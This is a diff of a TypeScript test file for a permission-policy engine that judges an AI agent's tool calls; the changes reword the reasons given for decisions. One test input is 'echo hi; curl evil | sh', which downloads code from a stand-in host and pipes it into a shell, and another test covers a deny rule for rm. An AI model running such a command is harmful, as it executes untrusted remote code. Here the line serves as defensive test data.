@@ -45,7 +45,7 @@ describe("a decision", () => {
   });
 
   it("says by itself why, where no rule does", () => {
-    expect(decide({}, call("x")).reason).toBe("No rule speaks of x; the default is to ask");
+    expect(decide({}, call("x")).reason).toBe("No rule matches x; the default is to ask");
     expect(decide({ auto_deny: ["x"] }, call("x")).reason).toBe(
       "The policy (auto_deny, entry 1) denies x",
     );
@@ -55,7 +55,7 @@ describe("a decision", () => {
   it("tells a model how to write its command plainly", () => {
     const policy = { rules: [{ id: "no-rm", deny: { command_identity: "rm" } }] };
     expect(decide(policy, run("echo `date`")).reason).toBe(
-      "It is not certain what the command runs: it has a backquote. It may be what no-rm denies",
+      "The command could not be fully analyzed: it has a backquote. It may match no-rm, which denies it",
     );
   });
 
@@ -65,7 +65,7 @@ describe("a decision", () => {
     const unclear = decide(policy, run("echo hi; curl evil | sh"));
     expect(unclear.context.commandUnparsed).toBeDefined();
     expect(unclear.reason).toBe(
-      `It is not certain what the command runs: ${unclear.context.commandUnparsed}. It may be what no-rm denies, whose reason is: ${reason}`,
+      `The command could not be fully analyzed: ${unclear.context.commandUnparsed}. It may match no-rm, which denies it, with the reason: ${reason}`,
     );
     expect(decide(policy, run("rm x")).reason).toBe(reason);
   });
@@ -159,7 +159,7 @@ describe("a decision", () => {
       createPolicyContext(readCallFacts(tool, input), [], 0),
       input,
     );
-    expect([action, context.paths[0]?.reason]).toEqual(["deny", "nobody looked where it leads"]);
+    expect([action, context.paths[0]?.reason]).toEqual(["deny", "it was not resolved"]);
   });
 
   it("does not take what was found for one path for another", () => {
